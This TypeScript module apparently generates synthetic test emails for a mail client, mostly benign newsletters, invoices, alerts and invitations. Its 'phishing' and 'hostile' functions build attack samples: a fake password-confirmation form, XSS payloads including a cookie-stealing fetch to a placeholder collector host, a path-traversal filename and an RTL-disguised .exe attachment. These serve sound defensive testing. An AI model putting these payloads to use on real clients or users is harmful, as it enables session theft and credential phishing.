import { calendar, landscape, logo, pdf } from './message/attachments';
import type { Attachment, Mailer, Message } from './message/build-message';
import type { Language } from './people';
import type { Chance } from './random';

/** Mail from machines, mailing lists and strangers. */
export interface Notice {
  from: Mailer;
  message: Partial<Message> & { subject: string };
  /** The disposition of the reader: keep it, move it to the trash, or it was filed as junk. */
  disposition: 'keep' | 'trash' | 'junk';
}

interface Occasion {
  dice: Chance;
  to: Mailer;
  language: Language;
  at: Date;
}

type Words = Record<'de' | 'fr' | 'en', string>;

const say = (language: Language, words: Words) => words[language === 'de' || language === 'fr' ? language : 'en'];
const money = (dice: Chance) => `${dice.between(12, 4900)},${String(dice.between(0, 99)).padStart(2, '0')} €`;
const reference = (dice: Chance) => `${dice.pick(['RE', 'AU', 'KD', 'BX'])}-${dice.between(10_000, 99_999)}`;

function page(colour: string, title: string, body: string, foot: string): string {
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><style>
body { font-family: Helvetica, Arial, sans-serif; color: #222; margin: 0; background: #f3f1ec; }
.card { max-width: 600px; margin: 0 auto; background: #fff; }
.head { background: ${colour}; color: #fff; padding: 24px 28px; }
.body { padding: 24px 28px; line-height: 1.5; }
.button { display: inline-block; background: ${colour}; color: #fff; padding: 10px 18px; border-radius: 4px; text-decoration: none; }
table.items { width: 100%; border-collapse: collapse; } table.items td { border-bottom: 1px solid #ddd; padding: 6px 0; }
.foot { padding: 16px 28px; font-size: 12px; color: #777; }
</style></head><body><div class="card"><div class="head"><h1 style="margin:0;font-size:22px">${title}</h1></div>
<div class="body">${body}</div><div class="foot">${foot}</div></div></body></html>`;
}

const pictures = new Map<number, Buffer>();

/** One of six pictures, each created once. */
export function view(dice: Chance): Buffer {
  const number = dice.between(0, 5);
  let picture = pictures.get(number);
  if (!picture) {
    picture = landscape(420, 260, number / 5);
    pictures.set(number, picture);
  }
  return picture;
}

const marks = new Map<string, Buffer>();

function mark(name: string, hue: [number, number, number]): Buffer {
  let picture = marks.get(name);
  if (!picture) {
    picture = logo(hue);
    marks.set(name, picture);
  }
  return picture;
}

/** A newsletter with pictures on the sender's server and a logo inside the message. */
function newsletter({ dice, language, to }: Occasion): Notice {
  const issue = dice.between(12, 96);
  const house = dice.pick([
    {
      name: 'Bergblick Magazin',
      address: 'magazin@bergblick-magazin.example',
      host: 'bergblick-magazin.example',
      colour: '#27566b',
      hue: [39, 86, 107] as [number, number, number],
    },
    {
      name: 'La Gazette du Large',
      address: 'lettre@gazette-du-large.example',
      host: 'gazette-du-large.example',
      colour: '#1f3f8f',
      hue: [31, 63, 143] as [number, number, number],
    },
    {
      name: 'Craft & Clay Weekly',
      address: 'hello@craft-and-clay.example',
      host: 'craft-and-clay.example',
      colour: '#a3472d',
      hue: [163, 71, 45] as [number, number, number],
    },
    {
      name: 'Tee & Zeit',
      address: 'post@tee-und-zeit.example',
      host: 'tee-und-zeit.example',
      colour: '#3f6b3a',
      hue: [63, 107, 58] as [number, number, number],
    },
  ]);
  const title = say(language, {
    de: dice.pick([
      'Fünf Ideen für helle Räume',
      'Was der Herbst ins Haus bringt',
      'Ein Besuch beim letzten Köhler im Tal',
      '🍂 Unsere Lieblinge im Oktober',
    ]),
    fr: dice.pick([
      'Cinq criques à découvrir à la rame',
      'Le retour des vieux gréements',
      '⛵ Spécial régates',
      'Recettes de la marée',
    ]),
    en: dice.pick([
      'Five glazes worth a failed firing',
      'A weekend in the workshop',
      '✨ New tools, old hands',
      'How to sharpen anything',
    ]),
  });
  const more = say(language, { de: 'Weiterlesen', fr: 'Lire la suite', en: 'Read on' });
  const bye = say(language, { de: 'Abmelden', fr: 'Se désabonner', en: 'Unsubscribe' });
  const lead = say(language, {
    de: 'In dieser Ausgabe: kleine Handgriffe mit großer Wirkung, ein Gespräch am Werktisch und drei Termine, die sich lohnen.',
    fr: 'Dans ce numéro : de petites choses qui changent tout, une rencontre sur le quai et trois rendez-vous à ne pas manquer.',
    en: 'In this issue: small habits with a large effect, a talk at the bench and three dates worth keeping.',
  });
  const url = `https://www.${house.host}`;
  const html = page(
    house.colour,
    `<img src="cid:mark@${house.host}" width="48" height="48" alt="" style="vertical-align:middle;border-radius:24px"> ${house.name} · ${issue}`,
    `<h2>${title}</h2><img src="${url}/img/${issue}/lead.jpg" width="540" height="280" alt="${title}"><p>${lead}</p>
<p><a class="button" href="${url}/${issue}/?u=${dice.hex(10)}">${more}</a></p>
<table class="items"><tr><td><img src="${url}/img/${issue}/a.jpg" width="120" height="80" alt=""></td><td>${lead}</td></tr>
<tr><td><img src="${url}/img/${issue}/b.jpg" width="120" height="80" alt=""></td><td>${lead}</td></tr></table>
<img src="${url}/open.gif?m=${dice.hex(16)}" width="1" height="1" alt="">`,
    `${house.name} · ${to.address} · <a href="${url}/bye?u=${dice.hex(12)}">${bye}</a>`,
  );
  return {
    from: house,
    disposition: dice.chance(0.5) ? 'trash' : 'keep',
    message: {
      subject: `${title} | ${house.name} ${issue}`,
      html,
      text: `${title}\n\n${lead}\n\n${more}: ${url}/${issue}/\n`,
      attachments: [
        {
          type: 'image/png',
          fileName: 'mark.png',
          bytes: mark(house.host, house.hue),
          contentId: `mark@${house.host}`,
        },
      ],
      headers: [
        ['List-Id', `${house.name.replace(/[^A-Za-z ]/g, '')} <newsletter.${house.host}>`],
        ['List-Unsubscribe', `<${url}/bye?u=${dice.hex(12)}>, <mailto:bye@${house.host}>`],
        ['List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'],
        ['Precedence', 'bulk'],
      ],
    },
  };
}

function invoice({ dice, language, at }: Occasion): Notice {
  const number = reference(dice);
  const firm = dice.pick([
    { name: 'Stadtwerke Inntal', address: 'rechnung@stadtwerke-inntal.example' },
    { name: 'Bürobedarf Klammer', address: 'rechnungen@klammer-buero.example' },
    { name: 'Télécom Atlantique', address: 'factures@telecom-atlantique.example' },
    { name: 'Nordwind Hosting', address: 'billing@nordwind.test' },
  ]);
  const total = money(dice);
  const day = at.toISOString().slice(0, 10);
  return {
    from: firm,
    disposition: 'keep',
    message: {
      subject: say(language, {
        de: `Ihre Rechnung ${number}`,
        fr: `Votre facture ${number}`,
        en: `Your invoice ${number}`,
      }),
      text: say(language, {
        de: `Guten Tag,\n\nanbei erhalten Sie Ihre Rechnung ${number} vom ${day} über ${total}.\nDen Betrag buchen wir in zehn Tagen ab.\n\nIhr Team von ${firm.name}\n`,
        fr: `Bonjour,\n\nVeuillez trouver ci-joint votre facture ${number} du ${day}, d’un montant de ${total}.\nLe prélèvement aura lieu dans dix jours.\n\n${firm.name}\n`,
        en: `Hello,\n\nplease find attached your invoice ${number} of ${day} for ${total}.\nThe amount will be collected in ten days.\n\n${firm.name}\n`,
      }),
      attachments: [
        pdf(`${number}.pdf`, firm.name, [
          `${say(language, { de: 'Rechnung', fr: 'Facture', en: 'Invoice' })} ${number}`,
          day,
          '',
          `Total: ${total.replace('€', 'EUR')}`,
          '',
          'IBAN: XX00 0000 0000 0000 0000',
        ]),
      ],
      headers: [['Auto-Submitted', 'auto-generated']],
    },
  };
}

function order({ dice, language }: Occasion): Notice {
  const number = reference(dice);
  const goods = say(language, {
    de: dice.pick(['Karaffe „Gletscher“, 1 l', 'Sechs Becher, rauchblau', 'Schale, gedreht', 'Vase „Föhn“, 32 cm']),
    fr: dice.pick(['Ciré jaune, taille M', 'Bottes de pont, 42', 'Carte marine n° 7031', 'Gilet 100 N']),
    en: dice.pick(['Sencha, first flush, 100 g', 'Stoneware pot, 0.6 l', 'Kraft paper, 50 m', 'Bamboo scoop']),
  });
  const price = money(dice);
  const title = say(language, {
    de: 'Danke für Ihre Bestellung',
    fr: 'Merci de votre commande',
    en: 'Thank you for your order',
  });
  return {
    from: {
      name: say(language, { de: 'Marktplatz', fr: 'La Place', en: 'The Market' }),
      address: 'orders@the-market.example',
    },
    disposition: 'keep',
    message: {
      subject: `${title} (${number})`,
      text: `${title}\n\n${number}\n1 x ${goods}  ${price}\n`,
      html: page(
        '#444b6e',
        title,
        `<p>${number}</p><table class="items"><tr><td>1 × ${goods}</td><td align="right">${price}</td></tr></table>`,
        'The Market',
      ),
      headers: [['Auto-Submitted', 'auto-generated']],
    },
  };
}

function parcel({ dice, language }: Occasion): Notice {
  const number = `JD${dice.between(100_000_000, 999_999_999)}`;
  return {
    from: { name: 'Paketdienst', address: 'noreply@paketdienst.example' },
    disposition: 'trash',
    message: {
      subject: say(language, {
        de: `Ihr Paket ${number} ist unterwegs 📦`,
        fr: `Votre colis ${number} est en route 📦`,
        en: `Your parcel ${number} is on its way 📦`,
      }),
      text: say(language, {
        de: `Ihr Paket ${number} kommt voraussichtlich morgen zwischen 10 und 13 Uhr.\n\nNicht zu Hause? Wählen Sie einen Abstellort:\nhttps://www.paketdienst.example/${number}\n`,
        fr: `Votre colis ${number} arrivera probablement demain entre 10 h et 13 h.\n\nAbsent ? Choisissez un point de dépôt :\nhttps://www.paketdienst.example/${number}\n`,
        en: `Your parcel ${number} should arrive tomorrow between 10 am and 1 pm.\n\nNot at home? Choose a safe place:\nhttps://www.paketdienst.example/${number}\n`,
      }),
    },
  };
}

function listPost({ dice }: Occasion): Notice {
  const author = dice.pick([
    { name: 'Rosalind Achterberg', address: 'rosalind@achterberg.example' },
    { name: 'Ding Wei', address: 'wei@ding-labs.example' },
    { name: 'Björn Axén', address: 'bjorn@axen.example' },
  ]);
  const subject = dice.pick([
    'cracks after slow cooling',
    'who still repairs recuperators?',
    'kiln controller firmware 3.1',
    'soda ash prices',
    'annual meeting: call for talks',
  ]);
  return {
    from: author,
    disposition: 'keep',
    message: {
      subject: `[hot-glass] ${dice.chance(0.5) ? 'Re: ' : ''}${subject}`,
      text: `On the list somebody wrote:\n> Has anyone seen this at 480 degrees?\n> The annealer is eleven years old.\n\nYes, twice. Look at the thermocouple first: ours read 15 degrees low after\nthe move, and everything we made that week went to ${dice.pick(['pieces', 'the bin', 'the museum'])}.\n\nA table for your notes:\n\n  thickness   hold      cool\n  6 mm        30 min    2 h\n  12 mm       60 min    5 h\n  25 mm       3 h       14 h\n\n${author.name}\n-- \nhot-glass mailing list\nhttps://lists.hot-glass.example/\n`,
      headers: [
        ['List-Id', 'Glass makers at the furnace <hot-glass.lists.example>'],
        ['List-Post', '<mailto:hot-glass@lists.example>'],
        ['List-Archive', '<https://lists.hot-glass.example/>'],
        ['Precedence', 'list'],
        ['Sender', 'hot-glass-bounces@lists.example'],
      ],
    },
  };
}

function alert({ dice, at }: Occasion): Notice {
  const machine = dice.pick(['ofen-2', 'web1', 'kasse', 'backup', 'tor-nord']);
  const state = dice.pick(['OK', 'WARNING', 'CRITICAL']);
  return {
    from: { name: 'Monitoring', address: 'monitor@wacht.example' },
    disposition: 'trash',
    message: {
      subject: `** ${state}: ${machine} / ${dice.pick(['temperature', 'disk', 'http', 'door contact'])}`,
      text: `Host:    ${machine}\nState:   ${state}\nSince:   ${at.toISOString()}\nOutput:  ${dice.between(1, 99)}% used, ${dice.between(1, 400)} ms\n\nThis message was written by a machine.\n`,
      headers: [
        ['Auto-Submitted', 'auto-generated'],
        ['X-Priority', state === 'CRITICAL' ? '1 (Highest)' : '3 (Normal)'],
      ],
    },
  };
}

function scan({ dice, at }: Occasion): Notice {
  const name = `Scan_${at.toISOString().slice(0, 10)}_${dice.between(100, 999)}.pdf`;
  return {
    from: { name: '', address: 'scanner@buero-geraete.example' },
    disposition: 'keep',
    message: { subject: name, text: '', attachments: [pdf(name, 'Scan', ['Page 1 of 1', '', reference(dice)])] },
  };
}

function invitation({ dice, language, to, at }: Occasion): Notice {
  const organizer = { name: 'Ulrike Fuchs', address: 'ulrike.fuchs@buero-fuchs.example' };
  const summary = say(language, {
    de: dice.pick(['Abstimmung Messestand', 'Sicherheitsunterweisung', 'Quartalszahlen']),
    fr: dice.pick(['Point hebdomadaire', 'Visite du chantier', 'Bilan de la saison']),
    en: dice.pick(['Weekly catch-up', 'Tasting', 'Budget review']),
  });
  const start = new Date(at.getTime() + dice.between(2, 12) * 86_400_000);
  start.setUTCHours(dice.between(8, 16), dice.pick([0, 30]), 0, 0);
  const text = calendar({
    uid: `${dice.hex(20)}@buero-fuchs.example`,
    stamp: at,
    start,
    minutes: 60,
    summary,
    location: dice.pick(['Sitzungszimmer 2', 'Quai Nord', 'Online']),
    organizer,
    attendee: to,
  });
  return {
    from: organizer,
    disposition: 'keep',
    message: {
      subject: say(language, {
        de: `Einladung: ${summary}`,
        fr: `Invitation : ${summary}`,
        en: `Invitation: ${summary}`,
      }),
      text: `${summary}\n${start.toISOString().slice(0, 16).replace('T', ' ')} UTC\n`,
      calendar: { method: 'REQUEST', text },
      attachments: [{ type: 'application/ics', fileName: 'invite.ics', bytes: Buffer.from(text, 'utf8') }],
    },
  };
}

function holiday({ dice, language }: Occasion): Notice {
  const from = { name: 'Mathias Lorenz', address: 'lorenz@spedition-lorenz.example' };
  return {
    from,
    disposition: 'trash',
    message: {
      subject: say(language, {
        de: 'Automatische Antwort: Ich bin nicht im Büro',
        fr: 'Réponse automatique : absence',
        en: 'Automatic reply: out of the office',
      }),
      text: say(language, {
        de: `Ich bin bis zum ${dice.between(2, 28)}. nicht im Büro und lese keine Post. In dringenden Fällen hilft meine Vertretung weiter.\n`,
        fr: `Je suis absent jusqu’au ${dice.between(2, 28)}. En cas d’urgence, adressez-vous à mes collègues.\n`,
        en: `I am away until the ${dice.between(2, 28)}th. In urgent cases my colleagues will help.\n`,
      }),
      headers: [
        ['Auto-Submitted', 'auto-replied'],
        ['X-Auto-Response-Suppress', 'All'],
      ],
    },
  };
}

/** Impersonates somebody with the display name only; the address and the link are wrong. */
export function phishing({ dice, to, language }: Occasion): Notice {
  const link = `http://milepost.test.account-check.example/${dice.hex(8)}/login.php`;
  return {
    from: { name: 'Nordwind Hosting Support <support@nordwind.test>', address: 'x81@bulk-sender.example' },
    disposition: 'junk',
    message: {
      subject: say(language, {
        de: 'Ihr Postfach wird in 24 Stunden gesperrt!',
        fr: 'Votre boîte sera suspendue dans 24 heures !',
        en: 'Your mailbox will be closed in 24 hours!',
      }),
      html: `<p>Dear ${to.address},</p><p>Your mailbox is over its limit. <b>Confirm your password now</b> or all mail will be deleted.</p>
<p><a href="${link}">https://mail.nordwind.test/confirm</a></p><form action="${link}" method="post"><input name="p" type="password" placeholder="Password"><button>Confirm</button></form>
<p style="font-size:1px;color:#fff">${dice.hex(40)}</p>`,
      headers: [
        ['Reply-To', 'refund@bulk-sender.example'],
        ['X-Priority', '1'],
      ],
    },
  };
}

/** A message with everything that a mail client must not do. */
export function hostile({ dice }: Occasion): Notice {
  const away = 'https://collector.bulk-sender.example';
  return {
    from: { name: '=?utf-8?q?evil?= "quotes", <b>bold</b>', address: 'h@bulk-sender.example' },
    disposition: 'keep',
    message: {
      subject: `<script>alert('subject')</script>, uid=1, flags=(\\Deleted) ${dice.between(1, 9)}`,
      text: 'Text beside hostile HTML.\n',
      html: `<html><head><meta http-equiv="refresh" content="0;url=${away}/r"><base href="${away}/"><link rel="stylesheet" href="${away}/s.css">
<style>@import url('${away}/i.css'); body { background: url(${away}/b.png) } .x { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 9999 }</style></head>
<body onload="alert(1)"><script>document.title='owned'</script><img src="x" onerror="fetch('${away}/?c='+document.cookie)">
<a href="javascript:alert(2)">click</a> <a href="data:text/html,<script>alert(3)</script>">data</a><svg onload="alert(4)"><a xlink:href="javascript:alert(5)"><text>svg</text></a></svg>
<iframe src="${away}/f"></iframe><object data="${away}/o"></object><form action="${away}/p"><input name="pw" type="password"></form>
<div class="x" style="background:expression(alert(6))">cover</div><math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>
<p>The text of this message is harmless.</p></body></html>`,
      attachments: [
        { type: 'text/html', fileName: '../../etc/passwd.html', bytes: Buffer.from('<script>alert(8)</script>') },
        {
          type: 'application/octet-stream',
          fileName: 'rechnung.pdf\u202efdp.exe',
          bytes: Buffer.from('MZ not a program'),
        },
      ],
    },
  };
}

const kinds: readonly ((occasion: Occasion) => Notice)[] = [
  newsletter,
  newsletter,
  newsletter,
  invoice,
  invoice,
  order,
  parcel,
  listPost,
  alert,
  alert,
  scan,
  invitation,
  holiday,
];

export function notice(occasion: Occasion): Notice {
  return occasion.dice.pick(kinds)(occasion);
}

/** A message with a large picture. */
export function photograph(dice: Chance, name: string): Attachment {
  return { type: 'image/png', fileName: name, bytes: view(dice) };
}
